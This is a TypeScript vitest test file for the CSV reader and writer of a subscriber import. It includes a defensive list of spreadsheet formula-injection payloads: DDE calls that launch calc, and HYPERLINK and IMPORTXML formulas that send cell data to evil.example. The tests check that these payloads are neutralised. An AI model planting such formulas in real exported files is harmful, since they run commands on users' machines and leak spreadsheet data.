import { describe, expect, it } from 'vitest'
import { csvCell, csvRecord, parseCsv, restoreCell, type CsvRecord } from '../../core/csv.ts'
import { DomainError } from '../../core/errors.ts'

const rec = (line: number, ...fields: string[]): CsvRecord => ({ line, fields })

/** The line and message of the syntax error parseCsv throws, or null when it parses. */
function syntaxError(input: string): { path: string; message: string } | null {
  try {
    parseCsv(input)
    return null
  } catch (err) {
    if (!(err instanceof DomainError) || err.code !== 'invalid_csv') throw err
    return err.details![0]!
  }
}

describe('parseCsv: the one CSV reader of the subscriber import', () => {
  // [what, input, records]
  const good: [string, string, CsvRecord[]][] = [
    ['plain LF', 'a,b\nc,d\n', [rec(1, 'a', 'b'), rec(2, 'c', 'd')]],
    ['CRLF', 'a,b\r\nc,d\r\n', [rec(1, 'a', 'b'), rec(2, 'c', 'd')]],
    ['old Mac CR', 'a,b\rc,d', [rec(1, 'a', 'b'), rec(2, 'c', 'd')]],
    ['no final line break', 'a,b\nc,d', [rec(1, 'a', 'b'), rec(2, 'c', 'd')]],
    ['byte-order mark', '\uFEFFemail\nx@example.com', [rec(1, 'email'), rec(2, 'x@example.com')]],
    ['a BOM only at the start', 'a\n\uFEFFb', [rec(1, 'a'), rec(2, '\uFEFFb')]],
    ['empty lines skipped', '\n\na\n\n\nb\n\n', [rec(3, 'a'), rec(6, 'b')]],
    ['CRLF empty lines skipped', 'a\r\n\r\nb', [rec(1, 'a'), rec(3, 'b')]],
    ['empty fields', ',,\n', [rec(1, '', '', '')]],
    ['trailing comma', 'a,\n', [rec(1, 'a', '')]],
    ['quoted comma', '"a,b",c', [rec(1, 'a,b', 'c')]],
    [
      'quoted semicolons',
      'x@example.com,"c1;c2; c3",en',
      [rec(1, 'x@example.com', 'c1;c2; c3', 'en')],
    ],
    ['doubled quotes', '"say ""hi""",x', [rec(1, 'say "hi"', 'x')]],
    ['only a doubled quote', '""""', [rec(1, '"')]],
    ['empty quoted field', '"",x', [rec(1, '', 'x')]],
    ['an empty quoted line is a record', '""\n', [rec(1, '')]],
    ['quoted LF', '"a\nb",c\nd', [rec(1, 'a\nb', 'c'), rec(3, 'd')]],
    ['quoted CRLF', '"a\r\nb",c\r\nd', [rec(1, 'a\r\nb', 'c'), rec(3, 'd')]],
    ['quoted CR', '"a\rb",c\nd', [rec(1, 'a\rb', 'c'), rec(3, 'd')]],
    ['spaces around a quoted field', 'a, "b" ,c', [rec(1, 'a', 'b', 'c')]],
    ['tab after a quoted field', '"a"\t,b', [rec(1, 'a', 'b')]],
    ['spaces kept in plain fields', ' a , b ', [rec(1, ' a ', ' b ')]],
    ['only spaces', '   \nb', [rec(1, '   '), rec(2, 'b')]],
    [
      'apostrophes are plain text',
      "'=1,o'brien@example.com",
      [rec(1, "'=1", "o'brien@example.com")],
    ],
    ['unicode', 'émile@exämple.com,日本語,😀', [rec(1, 'émile@exämple.com', '日本語', '😀')]],
    ['last field quoted, no line break', 'a,"b"', [rec(1, 'a', 'b')]],
    ['many columns', 'a,b,c,d,e,f', [rec(1, 'a', 'b', 'c', 'd', 'e', 'f')]],
    [
      'the records after a multi-line field',
      '"1\n2\n3"\nx\ny',
      [rec(1, '1\n2\n3'), rec(4, 'x'), rec(5, 'y')],
    ],
    ['empty input', '', []],
    ['only a BOM', '\uFEFF', []],
  ]
  it(`reads ${good.length} well-formed variants with the line each record starts on`, () => {
    for (const [what, input, records] of good)
      expect([what, parseCsv(input)]).toEqual([what, records])
  })

  // [what, input, line of the error]
  const bad: [string, string, number][] = [
    ['quote inside a plain field', 'a,b"c\n', 1],
    ['quote at the end of a plain field', 'a\nab"', 2],
    ['text after a closing quote', 'a\n"b"c,d', 2],
    ['a quote right after a closing quote field', '"a" "b"', 1],
    ['never closed', 'a\n"b,c\nd\ne', 2],
    ['never closed at the very end', 'email\n"', 2],
    ['closed then text on a later line', '"a\nb"x', 2],
  ]
  it(`refuses ${bad.length} malformed variants with the line to look at`, () => {
    for (const [what, input, line] of bad) {
      expect([what, syntaxError(input)?.path]).toEqual([what, `lines.${line}`])
    }
  })
})

describe('csvCell: the one CSV writer cell, safe to open in a spreadsheet', () => {
  // What a spreadsheet (Excel, LibreOffice, Google Sheets) could run as a formula or a DDE call.
  const payloads = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A2)',
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '  +1',
    '\t\t@x',
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '-bob@example.com',
    '+tag@example.com',
    '=x@example.com',
    '@example.com',
    '=1+1"',
    '=1,=2',
    '=1\n=2',
    "'=1+1",
    "''=1",
  ]
  const guarded = /^[=+\-@\t\r\n]|^\s+[=+\-@]/

  it(`neutralises ${payloads.length} formula variants in every column: 0 get through`, () => {
    const through: string[] = []
    for (const p of payloads) {
      for (let col = 0; col < 3; col++) {
        const values = ['a@example.com', 'c1;c2', 'en']
        values[col] = p
        const [record] = parseCsv(csvRecord(values))
        const cell = record!.fields[col]!
        // As a spreadsheet sees the cell: it must not start a formula.
        if (guarded.test(cell)) through.push(`${JSON.stringify(p)} in column ${col}`)
        if (restoreCell(cell) !== p) through.push(`${JSON.stringify(p)} did not round-trip`)
        expect(record!.fields).toHaveLength(3)
      }
    }
    expect(through).toEqual([])
  })

  it('leaves ordinary values as they are, quoted', () => {
    for (const v of [
      'ada@example.com',
      "o'brien@example.com",
      'a1b2c3;d4e5f6',
      'zh-CN',
      '',
      '日本語',
    ]) {
      expect(csvCell(v)).toBe(`"${v.replaceAll('"', '""')}"`)
      expect(restoreCell(v)).toBe(v)
    }
    expect(csvCell('say "hi"')).toBe('"say ""hi"""')
    expect(csvRecord(['a', 'b'])).toBe('"a","b"\r\n')
  })

  it('restores exactly what it neutralised, and only that', () => {
    // A cell typed by hand with a leading apostrophe before ordinary text keeps it.
    expect(restoreCell("'abc")).toBe("'abc")
    expect(restoreCell("'")).toBe("'")
    expect(restoreCell("'-x@example.com")).toBe('-x@example.com')
    expect(restoreCell("''")).toBe("'")
    // Every value survives csvCell → parseCsv → restoreCell, whatever it starts with.
    const starts = ['', "'", "''", '=', '+', '-', '@', '\t', '\r', '\n', ' ', ' =', 'a', '"', ',']
    const tails = ['', 'x', '=1', "'", ' ', '"q"', ',', '\n']
    let n = 0
    for (const s of starts) {
      for (const tail of tails) {
        const v = s + tail
        const cell = parseCsv(`${csvCell(v)},end`)[0]?.fields[0] ?? ''
        expect([v, restoreCell(cell)]).toEqual([v, v])
        n++
      }
    }
    expect(n).toBe(starts.length * tails.length)
  })
})
